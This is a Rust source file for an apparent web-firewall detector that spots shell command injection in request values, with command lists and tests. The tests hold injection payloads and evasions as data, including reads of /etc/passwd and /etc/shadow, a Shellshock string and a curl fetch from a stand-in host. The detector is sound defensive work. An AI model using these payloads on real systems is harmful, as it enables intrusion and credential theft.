//! Command injection by structure (`match.detect = ["cmd"]`): a command word where a shell
//! would run one (after `;`, `|`, `&`, a newline, a backquote or `$(`, at the start of a
//! value when it carries shell-shaped arguments), whatever quoting or `$IFS` hides it; a
//! program named by its path or a glob (`/bin/ls`, `/???/c?t`); a bash function definition
//! (Shellshock); Windows `cmd`'s `IF a==b` and `FOR %x IN (...) DO`.
//!
//! The PowerShell cmdlet names are OWASP CRS's `windows-powershell-commands.data` (Apache-2.0,
//! `rules/data/`).
//!
//! The value is first unquoted the way a shell would (quotes and backslashes dropped, empty
//! expansions like `$@` removed, `$IFS` as a space), so `c''at`, `c\at` and `cat$IFS/etc` read
//! as `cat`.

/// Programs attackers run first: reconnaissance, download, shells and interpreters, network.
/// Words that are also common English are in [`COMMON`] and need shell-shaped arguments.
const COMMANDS: &[&str] = &[
    "aria2c",
    "attrib",
    "awk",
    "axel",
    "base32",
    "base64",
    "basenc",
    "bash",
    "bcdedit",
    "bitsadmin",
    "bsdtar",
    "busybox",
    "bzcat",
    "bzip2",
    "cacls",
    "cc",
    "certutil",
    "chattr",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "cmd",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "dash",
    "del",
    "dig",
    "dir",
    "dmesg",
    "doas",
    "env",
    "eval",
    "exec",
    "fetch",
    "findstr",
    "ftp",
    "gawk",
    "gcc",
    "gdb",
    "getent",
    "getfacl",
    "grep",
    "gunzip",
    "gzip",
    "hexdump",
    "hostname",
    "htop",
    "icacls",
    "id",
    "iex",
    "ifconfig",
    "ifup",
    "invoke-restmethod",
    "invoke-webrequest",
    "ipconfig",
    "iptables",
    "irb",
    "irm",
    "iwr",
    "java",
    "jjs",
    "journalctl",
    "jrunscript",
    "killall",
    "ksh",
    "lastlog",
    "ldapsearch",
    "ls",
    "lsattr",
    "lsof",
    "ltrace",
    "lua",
    "luajit",
    "lynx",
    "mawk",
    "mkfifo",
    "mknod",
    "mongo",
    "msfconsole",
    "msfvenom",
    "mshta",
    "mysql",
    "nawk",
    "nbtstat",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netsh",
    "netstat",
    "nmap",
    "node",
    "nodejs",
    "nohup",
    "nsenter",
    "nslookup",
    "openssl",
    "passwd",
    "perl",
    "pgrep",
    "php",
    "ping",
    "pkexec",
    "pkill",
    "powershell",
    "printenv",
    "ps",
    "psql",
    "pwd",
    "pypy",
    "python",
    "python2",
    "python3",
    "rbash",
    "readlink",
    "redis-cli",
    "reg",
    "regsvr32",
    "rlogin",
    "rm",
    "rsh",
    "rsync",
    "ruby",
    "rundll32",
    "runuser",
    "schtasks",
    "scp",
    "sed",
    "setsid",
    "sftp",
    "sh",
    "shred",
    "smbclient",
    "socat",
    "sqlite3",
    "ssh",
    "ssh-keygen",
    "strace",
    "sudo",
    "systemctl",
    "systeminfo",
    "tac",
    "taskkill",
    "tasklist",
    "tclsh",
    "tcpdump",
    "tcsh",
    "telnet",
    "tftp",
    "traceroute",
    "tshark",
    "uname",
    "unshare",
    "unzip",
    "useradd",
    "usermod",
    "uudecode",
    "uuencode",
    "vi",
    "vim",
    "vssadmin",
    "wevtutil",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xargs",
    "xterm",
    "xxd",
    "xzcat",
    "zcat",
    "zsh",
    "zstdcat",
];

/// Commands that are English words too: a match only with shell-shaped arguments or after an
/// unmistakable separator.
const COMMON: &[&str] = &[
    "at", "cat", "cd", "cp", "cut", "date", "dd", "diff", "echo", "export", "file", "find", "fold", "groups", "head",
    "history", "host", "install", "kill", "last", "less", "ln", "make", "more", "mv", "nice", "nl", "od", "print",
    "rev", "screen", "service", "set", "sleep", "sort", "split", "strings", "tail", "tar", "tee", "time", "timeout",
    "top", "touch", "truncate", "type", "users", "watch", "which", "who", "whois", "write", "zip",
];

/// Commands that run the command after them (`time who`, `sudo -u x id`).
const PREFIX: &[&str] =
    &["busybox", "command", "env", "exec", "nice", "nohup", "setsid", "sudo", "time", "timeout", "xargs"];

/// PowerShell cmdlets (`invoke-webrequest`), lowercase.
static POWERSHELL: std::sync::LazyLock<hashbrown::HashSet<String>> = std::sync::LazyLock::new(|| {
    include_str!("../../../rules/data/windows-powershell-commands.data")
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(str::to_ascii_lowercase)
        .collect()
});

/// Windows `IF` with a comparison, existence or errorlevel test.
static WINDOWS_IF: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r"(?:^|[\s;&|(])if(?:\s*/i)?\s+(?:not\s+)?(?:\S+\s*==\s*\S+|\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+|(?:exist|defined)\s+\S+|errorlevel\s+\d+)",
    )
    .expect("valid")
});

/// Bash brace expansion that makes a command line without spaces: `{cat,/etc/passwd}`.
static BRACES: std::sync::LazyLock<regex::Regex> =
    std::sync::LazyLock::new(|| regex::Regex::new(r"\{\s*,?\s*(?:[\w.?*-]*/)*([\w.?*-]+)\s*,[^}]*\}").expect("valid"));

/// What the detector found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    pub what: &'static str,
    pub word: String,
}

/// Whether a decoded parameter value reads as a shell (or Windows `cmd`) command line. In a
/// header (`header`), `;` separates a User-Agent's comments (`(X11; U; id)`), so it is not a
/// command separator there.
pub fn judge(decoded: &str, header: bool) -> Option<Found> {
    let b = decoded.as_bytes();
    if b.len() < 2 {
        return None;
    }
    // the usual value: no separator, quote, expansion or escape, and no IF: only its first word
    // can be a command, so look at that before copying anything
    let special = b.iter().any(|c| {
        matches!(
            c,
            b';' | b'|'
                | b'&'
                | b'\n'
                | b'\r'
                | b'`'
                | b'$'
                | b'('
                | b')'
                | b'{'
                | b'}'
                | b'\''
                | b'"'
                | b'\\'
                | b'<'
                | b'>'
                | b'\t'
                | b'='
                | b'%'
                | b','
        )
    });
    if !special && !b.windows(3).any(|w| w[..2].eq_ignore_ascii_case(b"if") && w[2] == b' ') {
        let first = decoded.split_whitespace().next()?;
        let word = first.rsplit('/').next().unwrap_or(first).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let lower = word.to_ascii_lowercase();
        let maybe = first.contains('/') && (first.contains('?') || first.contains('*') || first.contains('['))
            || known(&lower)
            || PREFIX.contains(&lower.as_str());
        if !maybe {
            return None;
        }
    }
    full(decoded, header)
}

/// [`judge`] without the shortcut for ordinary values.
fn full(decoded: &str, header: bool) -> Option<Found> {
    let text = unquote(decoded);
    let t = text.trim_start();
    if t.starts_with("()") && t[2..].trim_start().starts_with('{') {
        return Some(Found { what: "a bash function definition (Shellshock)", word: "() {".into() });
    }
    if let Some(w) = windows_cmd(&text) {
        return Some(Found { what: "Windows cmd syntax", word: w.into() });
    }
    if text.contains('{')
        && let Some(c) = BRACES.captures(&text)
    {
        let w = &c[1];
        if known(w) || w.contains('?') || w.contains('*') {
            return Some(Found { what: "a command in a brace expansion", word: w.into() });
        }
    }
    for (sep, piece) in pieces(&text, header) {
        if let Some(f) = command(sep, piece) {
            return Some(f);
        }
    }
    None
}

/// The text as a shell would see its words: lowercase, quotes and backslashes dropped, `$IFS`
/// and `${IFS}` as spaces, empty expansions (`$@`, `$*`, `$1`…`$9`) removed, `<` and `>` as
/// spaces (but `<(` and `>(`, process substitution, as a command's start); a literal `\n` as a
/// newline (payload lists write it so, and some applications unescape it).
fn unquote(s: &str) -> String {
    let s = s.to_ascii_lowercase();
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        let rest = &s[i..];
        if rest.starts_with("${ifs}") {
            out.push(' ');
            i += 6;
        } else if rest.starts_with("$ifs") {
            out.push(' ');
            i += 4;
        } else if b[i] == b'$' && i + 1 < b.len() && (b[i + 1].is_ascii_digit() || matches!(b[i + 1], b'@' | b'*')) {
            i += 2;
        } else if rest.starts_with("\\n") || rest.starts_with("\\r") {
            out.push('\n');
            i += 2;
        } else if matches!(b[i], b'\'' | b'"' | b'\\') {
            i += 1;
        } else if matches!(b[i], b'<' | b'>') && b.get(i + 1) == Some(&b'(') {
            // process substitution, `<(cmd)`: runs a command like `$(`
            out.push('\n');
            i += 2;
        } else if matches!(b[i], b'<' | b'>' | b'\t') {
            out.push(' ');
            i += 1;
        } else {
            let ch = rest.chars().next().expect("in bounds");
            out.push(ch);
            i += ch.len_utf8();
        }
    }
    out
}

/// How a piece was introduced.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Sep {
    /// The value's start.
    Start,
    /// `;`, `|`, a newline, a backquote, `$(`: only a shell reads these so.
    Strong,
    /// `&`, `(`, `{`, `,` inside braces: also ordinary punctuation.
    Weak,
}

/// The text cut at command separators, each piece with the separator before it.
fn pieces(t: &str, header: bool) -> Vec<(Sep, &str)> {
    let b = t.as_bytes();
    let mut out = Vec::new();
    let mut start = 0;
    let mut sep = Sep::Start;
    let mut braces = 0i32;
    let mut i = 0;
    while i < b.len() {
        let (next, len) = match b[i] {
            b';' if header => (Some(Sep::Weak), 1),
            b';' | b'|' | b'\n' | b'\r' | b'`' => (Some(Sep::Strong), 1),
            b'$' if b.get(i + 1) == Some(&b'(') => (Some(Sep::Strong), 2),
            b'&' | b'(' | b')' => (Some(Sep::Weak), 1),
            b'{' => {
                braces += 1;
                (Some(Sep::Weak), 1)
            }
            b'}' => {
                braces -= 1;
                (Some(Sep::Weak), 1)
            }
            b',' if braces > 0 => (Some(Sep::Weak), 1),
            _ => (None, 1),
        };
        if let Some(s) = next {
            out.push((sep, &t[start..i]));
            // `a;&b`: the strongest separator in a run counts
            sep = if out.last().is_some_and(|(_, p)| p.trim().is_empty()) && sep == Sep::Strong { sep } else { s };
            start = i + len;
        }
        i += len;
    }
    out.push((sep, &t[start..]));
    out
}

/// Whether one piece starts with a command, given what came before it.
fn command<'a>(sep: Sep, piece: &'a str) -> Option<Found> {
    let mut words = piece.split_whitespace();
    let mut first = words.next()?;
    let mut args: Vec<&str> = words.collect();
    // a program by its path or by a glob of one: /bin/ls, /usr/bin/id, /???/c?t
    if let Some((dir, name)) = first.rsplit_once('/') {
        let glob = |s: &str| s.contains('?') || s.contains('*');
        if !name.is_empty() && dir.starts_with('/') && glob(dir) {
            return Some(Found { what: "a program named by a glob", word: first.into() });
        }
        let bin = ["bin", "sbin", "usr/bin", "usr/sbin", "usr/local/bin", "system32"];
        // in a program's directory, a program spelled with bracket expressions: /bin/[c]at,
        // /usr/bin/[w]ho[a]mi (each read as its first character)
        let bracket = |s: &str| {
            if !s.contains('[') {
                return false;
            }
            let (mut out, mut rest) = (String::new(), s);
            while let Some(i) = rest.find('[') {
                out.push_str(&rest[..i]);
                let Some(j) = rest[i..].find(']') else { return false };
                match rest[i + 1..i + j].chars().next() {
                    Some(c) if c != '!' && c != '^' => out.push(c),
                    _ => return false,
                }
                rest = &rest[i + j + 1..];
            }
            out.push_str(rest);
            known(&out)
        };
        if bin.iter().any(|d| dir.trim_start_matches('/') == *d) && (known(name) || glob(name) || bracket(name)) {
            return Some(Found { what: "a program named by its path", word: first.into() });
        }
        return None;
    }
    // arguments only a command line has: an option, an absolute or home path, a variable, a URL
    // (after an English word, a dash before a word is a search engine's exclusion, not an
    // option: `cat pictures -dogs`, `tee shirts -sale`)
    // a Windows drive (`c:\windows`, its backslashes gone when unquoted: `c:windows`; a bare
    // `c:` only after a program that is not an English word)
    let drive = |a: &str| {
        let b = a.as_bytes();
        b.len() >= 2
            && b[0].is_ascii_alphabetic()
            && b[1] == b':'
            && b[2..].iter().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'*' | b'?'))
    };
    let exclusion = |a: &str| a.len() >= 5 && a.starts_with('-') && a[1..].bytes().all(|c| c.is_ascii_lowercase());
    let shaped = |first: &str, args: &[&str], english: bool| {
        args.iter().any(|a| {
            (a.len() >= 2 && a.starts_with('-') && a.as_bytes()[1].is_ascii_alphabetic() && !(english && exclusion(a)))
                || a.starts_with('/')
                || a.starts_with("~/")
                || a.starts_with('$')
                || a.starts_with("http://")
                || a.starts_with("https://")
                || drive(a) && (!english || a.len() > 2)
        }) || (first == "sleep" || first == "ping") && args.first().is_some_and(|a| a.parse::<f64>().is_ok())
    };
    // `python3.10`: the program without its version
    let bare = |w: &'a str| w.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    first = if bare(first).is_empty() { first } else { bare(first) };
    if (COMMANDS.binary_search(&first).is_ok() || POWERSHELL.contains(first)) && shaped(first, &args, false) {
        return Some(Found { what: "a command with shell-shaped arguments", word: first.into() });
    }
    // `time who`, `sudo id`: the command after the prefix
    let mut prefixed = false;
    while PREFIX.contains(&first) && !args.is_empty() {
        // options and their numbers (`timeout 5 id`, `nice -n 10 id`) come before the command
        let number = |a: &str| a.trim_end_matches(['s', 'm', 'h', 'd']).parse::<f64>().is_ok();
        let Some(pos) = args.iter().position(|a| !a.starts_with('-') && !number(a)) else { break };
        first = args[pos];
        args.drain(..=pos);
        prefixed = true;
    }
    let strong = COMMANDS.binary_search(&first).is_ok() || POWERSHELL.contains(first);
    let common = COMMON.binary_search(&first).is_ok();
    if !strong && !common {
        return None;
    }
    let hit = match sep {
        Sep::Strong => strong || shaped(first, &args, false) || args.is_empty() || prefixed,
        Sep::Weak | Sep::Start => {
            strong && (shaped(first, &args, false) || prefixed) || common && shaped(first, &args, true)
        }
    };
    hit.then(|| Found { what: "a command after a shell separator", word: first.into() })
}

/// Whether a word names a program this detector knows.
fn known(w: &str) -> bool {
    COMMANDS.binary_search(&w).is_ok() || COMMON.binary_search(&w).is_ok() || POWERSHELL.contains(w)
}

/// Windows `cmd` grammar: `IF [/I] [NOT] a==b command`, `IF a EQU b command`, `FOR [/F ...]
/// %x IN (...) DO command`, `cmd /c`.
fn windows_cmd(t: &str) -> Option<&'static str> {
    if t.contains("if") && WINDOWS_IF.is_match(t) {
        return Some("IF");
    }
    for (_, piece) in pieces(t, false) {
        let w: Vec<&str> = piece.split_whitespace().collect();
        let Some(&head) = w.first() else { continue };
        let head = head.split('/').next().unwrap_or(head);
        // an IF whose test is cut into pieces by its parentheses or braces
        if head == "if" && w.len() >= 3 {
            let cond = piece.contains("==")
                || w.iter().any(|x| matches!(*x, "equ" | "neq" | "lss" | "leq" | "gtr" | "geq" | "exist" | "defined"));
            if cond {
                return Some("IF");
            }
        }
        if (head == "cmd" || head == "cmd.exe") && w.get(1).is_some_and(|a| matches!(*a, "/c" | "/k" | "/q")) {
            return Some("cmd /c");
        }
    }
    // FOR spans pieces (its set is in parentheses): look at the whole text
    let f = t.find("for ")?;
    let rest = &t[f + 4..];
    let var = rest.find('%')?;
    let inn = rest[var..].find(" in")?;
    let tail = &rest[var + inn..];
    (tail.contains('(') && tail.contains(')') && tail.contains("do")).then_some("FOR")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Random texts over the bytes that matter: the shortcut never changes the answer.
    #[test]
    fn the_shortcut_for_ordinary_values_changes_nothing() {
        let alphabet: Vec<&str> = vec![
            "cat", "id", "if", "IF ", " ", "-a", "/", "/bin/", "?", "x", "time", "==", "equ", "ls", "Who", "3", ".",
            "busybox",
        ];
        for s in crate::random_texts(&alphabet, 6, 20_000) {
            if s.len() >= 2 {
                assert_eq!(judge(&s, false), full(&s, false), "{s:?}");
            }
        }
    }

    #[test]
    fn lists_are_sorted_for_binary_search() {
        assert!(COMMANDS.windows(2).all(|w| w[0] < w[1]));
        assert!(COMMON.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn command_lines_are_found_however_quoted() {
        for v in [
            ";id",
            "x|whoami",
            "127.0.0.1; cat /etc/passwd",
            "a`uname -a`",
            "$(curl http://x.example/s.sh)",
            "c''at /etc/passwd",
            "a;c\\at$IFS/etc/passwd",
            "\n/bin/ls -al\n",
            "|usr/bin/id",
            "x;time who",
            "{/???/c?t,/etc/passwd}",
            "() { :; }; echo vulnerable",
            "if /i a==b foo",
            "& FOR %x IN (a,b,c) DO cmd",
            "ping -c 10 127.0.0.1",
            "x&sleep 5",
            "sudo id",
            "/bin/c?t /etc/passwd",
            "if not (2 equ 2) echo hey",
            "IF     red==red      echo test",
            "if/i a==b foo",
            "busybox -c \"echo hi\"",
            "python3.10 -c 'import os'",
            "Invoke-WebRequest http://example.com/path/file.ps1",
            "{,echo,#test}",
            "x|vi (x",
            "diff <(ls) x",
            "cat -n /etc/hosts",
            "x;xxd /etc/shadow",
            "sort -rn $HOME/x",
            ";timeout 5 id",
            ";nice -n 10 id",
            "& dir c:\\",
            "| type c:\\windows\\win.ini",
            "| findstr /si password *.txt",
            ";history",
            "/bin/[c]at /etc/passwd",
            ";/usr/bin/[w]ho[a]mi",
        ] {
            assert!(judge(v, false).is_some(), "{v:?}");
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for v in [
            "cat pictures -dogs",
            "tee shirts -sale",
            "make money online",
            "cat pictures",
            "tom & jerry",
            "python tutorial",
            "what time is it",
            "salt & pepper; more later",
            "ls",
            "B&W photos",
            "if you can, call me",
            "for sale in (london) do call",
            "echo dot",
            "apples, pears (and more)",
            "id=42",
            "who is john galt",
            "time who",
            "/account/settings?tab=1",
            "mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 (khtml, like gecko)",
            "https://example.com/a?b=1&c=2",
            "if a then b",
            "{a,b}",
            "add-content",
            "date & time",
            "dog & cat",
            "python & perl",
            "eat & sleep",
            "plan b: cheaper",
            "type a: or b:",
            "timeout 5 minutes",
            "history of rome",
            "/docs/[id]/page",
            "/bin/[draft] notes",
        ] {
            assert_eq!(judge(v, false), None, "{v:?}");
        }
        for ua in [
            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10",
            "Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA)",
        ] {
            assert_eq!(judge(ua, true), None, "{ua:?}");
            assert!(judge(ua, false).is_some(), "as a parameter, {ua:?} reads as commands");
        }
        assert!(judge("() { :; }; /bin/bash -c id", true).is_some());
        assert!(judge("x`id`", true).is_some());
    }
}
